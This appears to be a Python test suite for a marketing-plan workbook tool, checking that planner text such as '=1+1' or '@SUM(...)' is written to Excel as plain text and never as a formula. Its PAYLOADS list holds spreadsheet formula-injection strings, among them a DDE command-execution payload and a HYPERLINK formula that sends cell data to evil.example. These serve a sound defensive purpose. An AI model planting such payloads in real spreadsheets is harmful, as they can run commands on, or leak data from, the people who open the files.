"""Text written into our workbooks never becomes a formula (SPEC §15, formula injection).

A planner's text that starts with `=`, `+`, `-`, `@`, tab or CR (a pasted "=cmd|' /C calc'!A0"
or "@SUM(…)", or a harmless "-5% vs plan") must be written as text by every writer: the XML
of every sheet is read back (zipfile) to prove that no such cell carries an `<f>` and that the
cell holds the exact text.
"""
from __future__ import annotations

import datetime as dt
import re
import zipfile
from pathlib import Path

import pytest
import python_calamine as calamine

from mom_engine.read import read_book
from mom_engine.report.files import FORMULA_TRIGGERS, new_workbook
from mom_engine.report.team_workbook import write_team_workbook

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def test_every_trigger_is_covered():
    assert {p[0] for p in PAYLOADS} == set(FORMULA_TRIGGERS)


def formulas_in(path: Path) -> list[str]:
    """The text of every <f> element in every sheet of the package."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += re.findall(r"<f(?:\s[^>]*)?>([^<]*)</f>", archive.read(name).decode())
    return found


def cell_values(path: Path) -> dict[str, list[str]]:
    """Every text cell value per sheet, as a reader sees it (calamine: cached values only)."""
    workbook = calamine.CalamineWorkbook.from_path(str(path))
    values = {title: [v for row in workbook.get_sheet_by_name(title).to_python() for v in row
                      if isinstance(v, str)] for title in workbook.sheet_names}
    workbook.close()
    return values


def assert_written_as_text(path: Path, payloads: list[str]) -> None:
    formulas = formulas_in(path)
    for payload in payloads:
        body = payload.lstrip("=+-@\t\r")
        assert not any(body and body in f for f in formulas), (payload, formulas)
    everything = [v for values in cell_values(path).values() for v in values]
    for payload in payloads:
        assert payload in everything, payload


def test_new_workbook_writes_formula_like_text_as_text(tmp_path):
    """Through the generic `write`, `write_row` and a table's data: all strings stay strings."""
    path = tmp_path / "plain.xlsx"
    workbook = new_workbook(path)
    sheet = workbook.add_worksheet("Data")
    for row, payload in enumerate(PAYLOADS):
        sheet.write(row, 0, payload)
    sheet.write_row(0, 1, PAYLOADS)
    sheet.add_table(20, 0, 20 + len(PAYLOADS), 1, {
        "columns": [{"header": "Text"}, {"header": "=Header"}],
        "data": [[p, p] for p in PAYLOADS]})
    sheet.write(40, 0, "http://example.com")      # no URL guessed
    sheet.write(41, 0, "00123")                  # no number guessed
    workbook.close()
    assert formulas_in(path) == []
    assert_written_as_text(path, PAYLOADS)
    values = cell_values(path)["Data"]
    assert "=Header" in values and "00123" in values and "http://example.com" in values
    with zipfile.ZipFile(path) as archive:
        assert not any("hyperlink" in n for n in archive.namelist())


def test_the_team_workbook_writer_writes_planner_text_as_text(tmp_path):
    """Hostile text in Plan values, table cells, an extra column's header and the Lists."""
    path = write_team_workbook(
        tmp_path / "team.xlsx", fiscal_year=2027,
        plan={"Plan ID": "P-1", "Team": PAYLOADS[0], "Owner": PAYLOADS[4]},
        tables={
            "Campaigns": [{"Campaign ID": f"C{i}", "Campaign": payload, "Owner": payload,
                           "=Notes": payload} for i, payload in enumerate(PAYLOADS)],
            "Activities": [{"Activity ID": "A1", "Campaign ID": "C0", "Activity": PAYLOADS[2],
                            "GL Account": "610200", "Vendor": PAYLOADS[3]}],
        },
        lists={"Vendors": PAYLOADS})
    assert_written_as_text(path, PAYLOADS + ["=Notes"])
    # … and our own reader gets the text back (declared text is trimmed, SPEC §3; extra
    # columns are kept as they are).
    book = read_book(path)
    assert book.plan.team == PAYLOADS[0]
    trimmed = [p.strip() for p in PAYLOADS]
    assert book.tables["Campaigns"].frame["Campaign"].tolist() == trimmed
    assert book.tables["Campaigns"].frame["=Notes"].tolist() == PAYLOADS
    assert book.lists["Vendors"] == trimmed


def test_the_template_keeps_its_own_formulas(tmp_path):
    """The guard is on *text*: a workbook filled with formula-like planner text has exactly the
    formulas the template writes for its rows (the formula columns), none of them the text."""
    activity = {"Activity ID": "A1", "Campaign ID": "C1", "Activity": PAYLOADS[0],
                "GL Account": "610200"}
    plain = write_team_workbook(tmp_path / "plain.xlsx", fiscal_year=2027,
                                tables={"Activities": [{**activity, "Activity": "Booth"}]})
    filled = write_team_workbook(tmp_path / "filled.xlsx", fiscal_year=2027,
                                 tables={"Activities": [activity]})
    ours = formulas_in(plain)
    assert ours                                    # the Activities formula columns are there
    assert formulas_in(filled) == ours             # and the planner's text added none


def test_the_reconciliation_workbook_writes_planner_and_erp_text_as_text(tmp_path, run_mom):
    """`mom reconcile … -o`: vendors typed by the planner and document numbers from the ERP
    export land in the report as text (trimmed, as every ID and name is read)."""
    import csv

    from .builders import team_book
    import datetime as dt

    payloads = [p for p in PAYLOADS if p.strip()]
    book = team_book(tmp_path / "team.xlsx", PurchaseOrders=[
        {"PO Number": f"PO-{i}", "Activity ID": "A1", "Vendor": payload, "Amount": 100,
         "Issue Date": dt.date(2027, 1, 10), "Status": "Open"}
        for i, payload in enumerate(payloads)])
    ledger = tmp_path / "erp.csv"
    with ledger.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Document Type", "Document No", "PO Number", "Vendor", "GL Account",
                         "Posting Date", "Amount", "Currency"])
        for payload in payloads:                       # ERP-only documents named by payloads
            writer.writerow(["PO", payload, payload, payload, "610200", "2027-01-12",
                             "50.00", "USD"])
    output = tmp_path / "reconciliation.xlsx"
    done = run_mom("reconcile", book, "--ledger", ledger, "-o", output)
    assert done.returncode in (0, 1), done.stderr
    assert_written_as_text(output, [p.strip() for p in payloads])


def test_the_macro_findings_sheet_writes_planner_text_as_text(tmp_path):
    """The validate macro on a file (udfs.mom_macros): findings quote the planner's bad
    values (a Status typed as "=1+1", "+1+1", "@SUM(1,1)" …) on the Findings sheet, as text.
    openpyxl makes any "=…" string a formula on assignment; the port must mark it as text."""
    from udfs import mom_macros

    statuses = [p for p in PAYLOADS if p.strip()[:1] in "=+-@"]
    book = write_team_workbook(tmp_path / "team.xlsx", fiscal_year=2027, plan={
        "Plan ID": "P-1", "Team": "Demand Gen", "Status": "Draft"}, tables={
        "Campaigns": [{"Campaign ID": f"C{i}", "Campaign": f"Launch {i}", "Status": status}
                      for i, status in enumerate(statuses, start=1)]})
    output = tmp_path / "findings.xlsx"
    assert mom_macros.main(["validate", str(book), "-o", str(output),
                            "--as-of", "2027-03-01"]) == 1
    values = cell_values(output)["Findings"]
    for status in statuses:
        assert status.strip() in values, status        # the value column quotes it exactly
    formulas = formulas_in(output)
    for status in statuses:
        body = status.strip().lstrip("=+-@")
        assert not any(body in f for f in formulas), (status, formulas)


# Commands whose -o writes something other than a workbook (`calendar`: an iCalendar file,
# whose text escaping is tested in test_marketing_calendar.py).
NOT_WORKBOOKS = {"calendar"}


def _output_commands() -> list[str]:
    from .test_data_safety import output_commands
    return [c for c in output_commands() if c not in NOT_WORKBOOKS]


@pytest.mark.parametrize("command", _output_commands())
def test_every_command_that_writes_a_workbook_keeps_planner_text_as_text(tmp_path, command):
    """Any `mom COMMAND … -o OUT` (reconcile today; consolidate when it lands): a team book
    whose names, vendors and IDs are formula-like text gives an output with no such formula."""
    from mom_engine.cli import main

    from .test_data_safety import EXTRA_ARGUMENTS

    names = [p for p in PAYLOADS if p.strip()]
    book = write_team_workbook(tmp_path / "team.xlsx", fiscal_year=2027, plan={
        "Plan ID": "P-1", "Team": names[0], "Status": "Draft"}, tables={
        "Campaigns": [{"Campaign ID": f"C{i}", "Campaign": name, "Owner": name}
                      for i, name in enumerate(names)],
        "Activities": [{"Activity ID": "A1", "Campaign ID": "C0", "Activity": names[1],
                        "GL Account": "610200", "Vendor": names[2]}],
        "PurchaseOrders": [{"PO Number": name, "Activity ID": "A1", "Vendor": name,
                            "Amount": 10, "Issue Date": dt.date(2027, 1, 5)}
                           for name in names]})
    output = tmp_path / "out.xlsx"
    extra = EXTRA_ARGUMENTS.get(command, lambda folder: [])(tmp_path)
    assert main([command, str(book), *extra, "-o", str(output)]) in (0, 1)
    formulas = formulas_in(output)
    for name in names:
        body = name.strip().lstrip("=+-@")
        assert not any(body in f for f in formulas), (command, name, formulas)
    # … and the text did reach the report, as text cells (team, campaign names, PO numbers).
    written = {v for values in cell_values(output).values() for v in values}
    assert {"=cmd|' /C calc'!A0", "=1+1"} <= written, command
